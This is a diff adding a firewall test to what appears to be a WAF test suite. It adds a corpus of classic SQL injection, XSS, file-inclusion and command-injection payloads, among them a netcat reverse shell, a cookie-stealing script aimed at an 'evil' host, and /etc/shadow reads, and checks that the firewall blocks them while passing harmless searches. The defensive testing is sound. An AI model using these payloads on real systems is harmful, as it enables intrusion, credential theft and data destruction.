@@ -177,3 +177,90 @@ def test_an_excluded_rule_scores_nothing_and_a_response_leak_is_found():
     assert found.decision == "deny" and found.threshold == 4
     assert [m["id"] for m in found.matched] == [951230]
     assert waf.inspect_response(conn(), request(headers=BROWSER), res, (), None).score == 0
+
+
+# Classic payloads of each class CRS names (the usual cheat-sheet forms), and ordinary search
+# terms that look like them in part (quotes, SQL words, angle brackets, paths, ampersands).
+CORPUS = {
+    "sqli": [
+        "1' OR '1'='1",
+        "1' OR 1=1--",
+        "admin'--",
+        "1; DROP TABLE users--",
+        "1 UNION SELECT null, version()--",
+        "' UNION ALL SELECT username, password FROM users--",
+        "1 AND SLEEP(5)",
+        "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
+        "1; EXEC xp_cmdshell('dir')",
+        "' OR ''='",
+        "1' WAITFOR DELAY '0:0:5'--",
+        "-1 OR 2+2=4",
+    ],
+    "xss": [
+        "<script>alert(1)</script>",
+        '"><img src=x onerror=alert(1)>',
+        "<svg onload=alert(1)>",
+        "javascript:alert(document.domain)",
+        "<body onload=alert('x')>",
+        '<iframe src="javascript:alert(1)"></iframe>',
+        "'><script>document.location='http://evil/'+document.cookie</script>",
+        '<a href="javascript:alert(1)">x</a>',
+        '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
+        '<div style="background:url(javascript:alert(1))">',
+    ],
+    "lfi": [
+        "../../../../etc/passwd",
+        "..%2f..%2f..%2fetc%2fpasswd",
+        "....//....//etc/passwd",
+        "/etc/shadow",
+        "..\\..\\..\\windows\\win.ini",
+        "/proc/self/environ",
+        "file:///etc/passwd",
+    ],
+    "rce": [
+        "; cat /etc/passwd",
+        "| id",
+        "`whoami`",
+        "$(id)",
+        "127.0.0.1 && ls -la",
+        "; nc -e /bin/sh 10.0.0.1 4444",
+        "| powershell -enc ZQBjAGgAbwA=",
+    ],
+}
+BENIGN = [
+    "bread",
+    "how to bake bread, quickly?",
+    "O'Reilly books",
+    "C++ templates",
+    "price < 50 and > 10",
+    "rock & roll",
+    "2 + 2 = 4",
+    "the select committee met",
+    "union station",
+    "drop-down menu",
+    "script writing tips",
+    "100% cotton",
+    "email me: ann@example.com",
+    "path/to/my/file.txt",
+    "it's a dog's life",
+    "SELECT your seat",
+    "#1 hits of 1999",
+    "50% off; today only",
+    "what is 3*4?",
+    "résumé tips",
+]
+
+
+def _denied(value):
+    from urllib.parse import quote
+
+    req = request("/page?q=" + quote(value), headers=BROWSER)
+    return waf.inspect_request(conn(), req, (), None).decision == "deny"
+
+
+@real
+def test_the_attack_corpus_is_caught_and_ordinary_searches_are_not():
+    missed = [p for payloads in CORPUS.values() for p in payloads if not _denied(p)]
+    # 35 of 36 at paranoia level 1: "| id" (a two-letter command) is a level-2 finding
+    assert missed == ["| id"]
+    assert [b for b in BENIGN if _denied(b)] == []  # 0 false positives of 20
